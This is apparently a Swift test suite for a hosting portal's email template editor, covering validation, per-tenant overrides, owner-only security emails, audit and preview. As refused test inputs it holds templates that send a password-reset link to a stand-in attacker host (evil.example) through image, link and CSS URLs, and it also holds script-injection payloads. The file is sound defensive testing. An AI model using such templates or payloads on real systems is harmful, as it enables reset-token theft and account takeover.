import Branding
import Foundation
import HTTPTypes
import HummingbirdTesting
import Tenancy
import TestSupport
import Testing

@testable import Portal

/// Email templates: defaults, validation, overrides per tenant, preview and test sends.
@Suite("Email templates")
struct EmailTemplateTests {
    @Test("every shipped default parses, uses only documented variables, and renders with its sample data")
    func defaultsAreValid() throws {
        let defaults = try EmailDefaults(
            directory: TestPaths.assets + "/email",
            languages: try Languages.load(directory: TestPaths.assets + "/locales"))
        let brand = EmailBrandFacts(name: "Acme Hosting", siteURL: "https://portal.acme.example")
        for kind in EmailKind.all {
            let rendered = try EmailRenderer.sample(
                kind: kind, template: defaults.template(kind), layout: defaults.layout, brand: brand,
                recipient: ("Ada", "ada@example.com")
            )
            #expect(!rendered.subject.isEmpty && !rendered.subject.contains("\n"), "\(kind.name)")
            #expect(rendered.html.contains("<!doctype html>") && rendered.html.contains("Acme Hosting"), "\(kind.name)")
            #expect(!rendered.text.contains("<p>"), "\(kind.name): the text part has no HTML")
            #expect(!rendered.html.contains("{{") && !rendered.text.contains("{{"), "\(kind.name)")
        }
        let activated = try EmailRenderer.sample(
            kind: .serviceActivated, template: defaults.template(.serviceActivated), layout: defaults.layout,
            brand: brand,
            recipient: ("Ada", "ada@example.com")
        )
        #expect(!activated.text.lowercased().contains("password:"), "credentials are linked, never mailed")
    }

    @Test("injection attempts and broken templates are refused with the line and column")
    func validation() {
        func problems(_ html: String, subject: String = "Hello {{recipient.name}}") -> [String] {
            EmailTemplateValidator.validate(
                EmailTemplate(subject: subject, html: html, text: "Hi"), for: .passwordReset
            ).map(\.description)
        }
        #expect(
            problems("<p>{{{link}}}</p>") == [
                "HTML part, line 1, column 4: unescaped output ({{{ }}}) is not allowed; use {{name}}"
            ])
        #expect(
            problems("<p>\n  {{& link}}</p>") == [
                "HTML part, line 2, column 3: unescaped output ({{& }}) is not allowed; use {{name}}"
            ])
        #expect(
            problems("{{> secrets}}") == [
                "HTML part, line 1, column 1: partials and template inheritance are not allowed"
            ])
        #expect(
            problems("{{=<% %>=}}<%link%>") == ["HTML part, line 1, column 1: changing the delimiters is not allowed"])
        #expect(
            problems("{{% CONTENT_TYPE: TEXT}}") == ["HTML part, line 1, column 1: pragmas ({{% }}) are not allowed"])
        #expect(
            problems("<p>{{recipient.nmae}}</p>") == [
                "HTML part, line 1, column 4: unknown variable {{recipient.nmae}}"
            ])
        #expect(
            problems("{{#link}}x") == [
                "HTML part, line 1, column 11: the template does not parse (a section is opened but never closed)",
                "HTML part, line 1, column 1: the one-time link is written {{link}} only, never as a section "
                    + "({{#link}}, {{^link}})",
            ])
        #expect(
            problems("<p>{{link}}</p>", subject: "Two\nlines") == ["Subject, column 1: the subject must be one line"])
        #expect(
            problems(String(repeating: "x", count: 70_000)) == [
                "HTML part, line 1, column 1: the part is larger than 64 KiB"
            ])
        #expect(problems("<p>{{link}}</p>").isEmpty)
        // List rows are in scope inside their section only.
        let order = EmailTemplate(
            subject: "Order {{order.number}}", html: "{{#order.items}}{{name}} {{price}}{{/order.items}}",
            text: "{{name}}")
        #expect(
            EmailTemplateValidator.validate(order, for: .orderConfirmation).map(\.description) == [
                "Text part, line 1, column 1: unknown variable {{name}}"
            ])
        let layout = EmailTemplate(subject: "", html: "<div>no body</div>", text: "{{body}}")
        #expect(
            EmailTemplateValidator.validate(layout, for: nil).map(\.description) == [
                "HTML part, line 1, column 1: the layout must contain {{body}}, where each email's content goes"
            ])
    }

    @Test(
        "a security email's one-time link stands on its own (the portal's button), never in an attribute, link, URL or style"
    )
    func linkPlacement() {
        func refused(_ html: String, text: String = "Choose a new password: {{link}}") -> Bool {
            !EmailTemplateValidator.validate(
                EmailTemplate(subject: "Reset", html: html, text: text), for: .passwordReset
            ).isEmpty
        }
        #expect(!refused(#"<p>{{link}}</p><p>Or paste this address into your browser: {{link}}</p>"#))
        // Even a link's whole address is no longer the template's to write: the button is the portal's.
        #expect(refused(#"<p><a class="button" href="{{link}}">Reset</a></p>"#))
        #expect(refused(#"<p><a href="https://evil.example/">{{link}}</a></p>"#))
        // However it is spaced or wrapped, it is the same tag.
        #expect(refused(#"<img src="https://evil.example/?{{ link }}">"#))
        #expect(refused(#"<p>{{#link}}<img src="https://evil.example/?{{.}}">{{/link}}</p>"#))
        #expect(!refused(#"<p>{{ link }}</p>"#))
        #expect(refused(#"<img src="https://evil.example/?{{link}}">"#))
        #expect(refused(#"<a href="https://evil.example/?t={{link}}">Reset</a>"#))
        #expect(refused(#"<p style="background:url({{link}})">Hi</p>"#))
        #expect(refused(#"<style>body { background: url({{link}}) }</style><p>Hi</p>"#))
        #expect(refused(#"<p>https://evil.example/?t={{link}}</p>"#))
        #expect(refused(#"<p>{{link}}</p>"#, text: "Open https://evil.example/?{{link}}"))
        #expect(
            !EmailTemplateValidator.validate(
                EmailTemplate(subject: "Reset {{ link }}", html: "<p>{{link}}</p>", text: "{{link}}"),
                for: .passwordReset
            ).isEmpty, "never in the subject")
        let message =
            EmailTemplateValidator.validate(
                EmailTemplate(subject: "Reset", html: #"<img src="https://evil.example/?{{link}}">"#, text: "{{link}}"),
                for: .passwordReset
            ).first?.description ?? ""
        #expect(message.contains("HTML part, line 1") && message.contains("would leak it"), "\(message)")
        // Not a security email: the rule does not apply (no one-time link there).
        #expect(
            EmailTemplateValidator.validate(
                EmailTemplate(
                    subject: "Order", html: #"<img src="https://cdn.example/?{{link}}">"#, text: "{{link}}"),
                for: .orderConfirmation
            ).isEmpty)
    }

    @Test("a security template stored before today's rules, leaking its link, is not used: the default goes out")
    func legacyLeakingOverrideIgnored() async throws {
        try await withPortal { client, dependencies in
            let owner = try await makeAccount(dependencies, email: "owner@acme.example", role: .owner)
            try await makeAccount(dependencies, email: "ada@example.com")
            let tenant = try dependencies.registryTenant("acme")
            // Written straight to the database, as an older version of the portal could have stored it.
            try await dependencies.databases.withDatabase(for: tenant) {
                try await $0.emailTemplates.save(
                    EmailTemplate(
                        subject: "Reset", html: #"<p><img src="https://evil.example/?t={{link}}">Hi</p>"#,
                        text: "Reset: {{link}}"),
                    named: "password_reset", by: owner, ip: "")
            }
            let browser = TestBrowser(client, host: "acme.localhost")
            try await browser.get("/forgot-password")
            try await browser.post("/forgot-password", ["email": "ada@example.com"])
            let mail = try #require(try await dependencies.outbox("acme").first { $0.kind == "reset_password" })
            #expect(!(mail.htmlBody ?? "").contains("evil.example"))
            #expect(mail.subject != "Reset")
            #expect(mail.htmlBody?.contains(">Choose a new password</a>") == true)
        }
    }

    @Test("only owners edit the security emails and the layout; a change is audited and emailed to every owner")
    func securityTemplatesAreOwners() async throws {
        try await withPortal { client, dependencies in
            let owner = try await staffBrowser(
                client, dependencies, email: "owner@acme.example", landing: "/admin/brand")
            _ = try await staffBrowser(client, dependencies, email: "second@acme.example")
            let admin = try await staffBrowser(client, dependencies, role: .admin, landing: "/admin/brand/emails")
            #expect(try await admin.get("/admin/brand/emails/password_reset").status == .forbidden)
            #expect(try await admin.get("/admin/brand/emails/layout").status == .forbidden)
            #expect(try await admin.get("/admin/brand/emails/order_confirmation").status == .ok)
            let leak = try await admin.post(
                "/admin/brand/emails/staff_invitation",
                ["subject": "Join", "html": #"<img src="https://evil.example/?{{link}}">"#, "text": "{{link}}"])
            #expect(leak.status == .forbidden)
            let list = try await admin.get("/admin/brand/emails")
            #expect(!list.text.contains("/admin/brand/emails/password_reset") && !list.text.contains("emails/layout"))
            #expect(list.text.contains("/admin/brand/emails/order_confirmation"))

            try await owner.get("/admin/brand/emails/password_reset")
            let saved = try await owner.post(
                "/admin/brand/emails/password_reset",
                [
                    "subject": "Reset your password",
                    "html": #"<p>Choose a new password:</p><p>{{link}}</p>"#,
                    "text": "Choose a new password: {{link}}",
                ])
            #expect(saved.status == .seeOther)
            let audit = try await dependencies.accounts("acme") {
                try await $0.auditEntries(action: "email_template.updated")
            }
            #expect(audit.contains { $0.target == "password_reset" && $0.actor == "owner@acme.example" })
            let told = try await dependencies.outbox("acme").filter { $0.kind == "security_template_changed" }
            #expect(Set(told.map(\.toAddress)) == ["owner@acme.example", "second@acme.example"])
            #expect(
                told.allSatisfy { $0.textBody.contains("owner@acme.example") && $0.textBody.contains("password reset") }
            )
        }
    }

    @Test("a tenant's override is used for its own emails only; bad edits are refused and nothing is stored")
    func overridesArePerTenant() async throws {
        try await withPortal { client, dependencies in
            let owner = try await staffBrowser(
                client, dependencies, email: "owner@acme.example", landing: "/admin/brand")
            let editor = try await owner.get("/admin/brand/emails/password_reset")
            // Variables without row fields say nothing of rows (no stray "(each row has: )").
            #expect(editor.status == .ok && !editor.text.contains("(each row has: )"))
            let refused = try await owner.post(
                "/admin/brand/emails/password_reset",
                ["subject": "Reset", "html": "<p>{{{link}}}</p>", "text": "{{link}} {{oops}}"]
            )
            #expect(refused.status == .unprocessableContent)
            #expect(refused.text.contains("HTML part, line 1, column 4: unescaped output"))
            #expect(refused.text.contains("Text part, line 1, column 10: unknown variable {{oops}}"))
            // The typed text stays in the form, escaped: braces are plain text, the tags are not markup.
            #expect(
                refused.text.contains(
                    #"<textarea id="html" name="html" rows="14" spellcheck="false" class="code" aria-invalid="true" aria-describedby="html-problems">&lt;p&gt;{{{link}}}&lt;/p&gt;</textarea>"#
                ))
            #expect(
                refused.text.contains(
                    #"<textarea id="text" name="text" rows="10" spellcheck="false" class="code" aria-invalid="true" aria-describedby="text-problems">{{link}} {{oops}}</textarea>"#
                ))
            #expect(!refused.text.contains("<p>{{{link}}}</p>"))

            // Hostile text in every field comes back as text, never as markup that closes the field.
            let hostile = try await owner.post(
                "/admin/brand/emails/password_reset",
                [
                    "subject": #""><script>alert(1)</script>"#, "html": "</textarea><script>alert(2)</script>",
                    "text": "{{oops}}",
                ]
            )
            #expect(hostile.status == .unprocessableContent)
            #expect(
                hostile.text.contains(
                    #"<input id="subject" name="subject" type="text" value="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" maxlength="200">"#
                ))
            #expect(
                hostile.text.contains(
                    #"<textarea id="html" name="html" rows="14" spellcheck="false" class="code">&lt;/textarea&gt;&lt;script&gt;alert(2)&lt;/script&gt;</textarea>"#
                ))
            #expect(hostile.text.contains(#"<li>Text part, line 1, column 1: unknown variable {{oops}}</li>"#))
            #expect(
                !hostile.text.contains("<script>alert(1)</script>")
                    && !hostile.text.contains("<script>alert(2)</script>"))
            #expect(!hostile.text.contains(#"value=""><script>"#))
            let tenant = try dependencies.registryTenant("acme")
            #expect(
                try await dependencies.databases.withDatabase(for: tenant) { try await $0.emailTemplates.overrides() }
                    .isEmpty)

            let saved = try await owner.post(
                "/admin/brand/emails/password_reset",
                [
                    "subject": "Acme password help for {{recipient.name}}",
                    "html": "<p>Fresh start:</p><p>{{link}}</p>",
                    "text": "Fresh start: {{link}}",
                ]
            )
            #expect(saved.status == .seeOther)

            // A reset on Acme uses the override, with the layout around it; Globex keeps the default.
            try await makeAccount(dependencies, tenant: "acme", email: "ada@example.com")
            try await makeAccount(dependencies, tenant: "globex", email: "ada@example.com")
            for host in ["acme.localhost", "globex.localhost"] {
                let browser = TestBrowser(client, host: host)
                try await browser.get("/forgot-password")
                try await browser.post("/forgot-password", ["email": "ada@example.com"])
            }
            let acmeMail = try #require(try await dependencies.outbox("acme").first { $0.kind == "reset_password" })
            #expect(acmeMail.subject == "Acme password help for Ada Lovelace")
            #expect(acmeMail.textBody.hasPrefix("Fresh start: http"))
            #expect(
                acmeMail.htmlBody?.contains("Fresh start:") == true
                    && acmeMail.htmlBody?.contains("<!doctype html>") == true)
            // The link is the portal's button, on the brand's primary domain, with the fixed words.
            let html = try #require(acmeMail.htmlBody)
            #expect(html.contains(#"<p><a class="button" href="https://portal.acme.example/reset-password?token="#))
            #expect(html.contains(">Choose a new password</a></p>"))
            let globexMail = try #require(try await dependencies.outbox("globex").first { $0.kind == "reset_password" })
            #expect(globexMail.subject == "Reset your password — Globex Web")
            #expect(!globexMail.textBody.contains("Fresh start"))
            #expect(firstLink(in: acmeMail)?.contains("/reset-password?token=") == true)

            #expect(try await owner.post("/admin/brand/emails/password_reset/reset", [:]).status == .seeOther)
            #expect(
                try await dependencies.databases.withDatabase(for: tenant) { try await $0.emailTemplates.overrides() }
                    .isEmpty)
            #expect(
                try await dependencies.accounts("acme") { try await $0.auditEntries(action: "email_template.updated") }
                    .count == 1)
        }
    }

    @Test("the editor previews with sample data in a sandboxed frame, and a test goes to the staff member only")
    func previewAndTestSend() async throws {
        try await withPortal { client, dependencies in
            let owner = try await staffBrowser(
                client, dependencies, email: "owner@acme.example", landing: "/admin/brand")
            let editor = try await owner.get("/admin/brand/emails/order_confirmation")
            #expect(editor.text.contains("Order 1048 received"))
            #expect(editor.text.contains("Starter Web (annually): £49.90"))
            let preview = try await owner.get("/admin/brand/emails/order_confirmation/preview")
            #expect(preview.status == .ok)
            #expect(preview.headers[.contentSecurityPolicy]?.contains("sandbox") == true)
            #expect(preview.headers[.contentSecurityPolicy]?.contains("script-src") == false)
            #expect(preview.text.contains("example.com registration"))
            #expect(try await owner.get("/admin/brand/emails/no_such_email").status == .notFound)

            #expect(try await owner.post("/admin/brand/emails/order_confirmation/test", [:]).status == .seeOther)
            let sent = try await dependencies.outbox("acme").filter { $0.kind == "template_test" }
            #expect(sent.map(\.toAddress) == ["owner@acme.example"])
            #expect(sent.first?.subject.hasPrefix("[Test] Order 1048 received") == true)
            #expect(try await dependencies.outbox("globex").isEmpty)

            let support = try await staffBrowser(client, dependencies, role: .support, email: "support@acme.example")
            #expect(try await support.get("/admin/brand/emails").status == .forbidden)
        }
    }

    @Test("the layout can be customised but must keep {{body}}")
    func layout() async throws {
        try await withPortal { client, dependencies in
            let owner = try await staffBrowser(
                client, dependencies, email: "owner@acme.example", landing: "/admin/brand")
            try await owner.get("/admin/brand/emails/layout")
            let refused = try await owner.post(
                "/admin/brand/emails/layout", ["html": "<p>{{brand.name}}</p>", "text": "{{body}}"])
            #expect(refused.status == .unprocessableContent)
            #expect(refused.text.contains("the layout must contain {{body}}"))
            let saved = try await owner.post(
                "/admin/brand/emails/layout",
                [
                    "html": "<main>{{body}}</main><footer>{{brand.company}}</footer>",
                    "text": "{{body}}\n-- {{brand.name}}",
                ]
            )
            #expect(saved.status == .seeOther)
            try await owner.post("/admin/brand/emails/password_reset/test", [:])
            let mail = try #require(try await dependencies.outbox("acme").first { $0.kind == "template_test" })
            #expect(mail.htmlBody?.hasPrefix("<main><p>Hello") == true)
            #expect(mail.textBody.hasSuffix("-- Acme Hosting"))
        }
    }
}
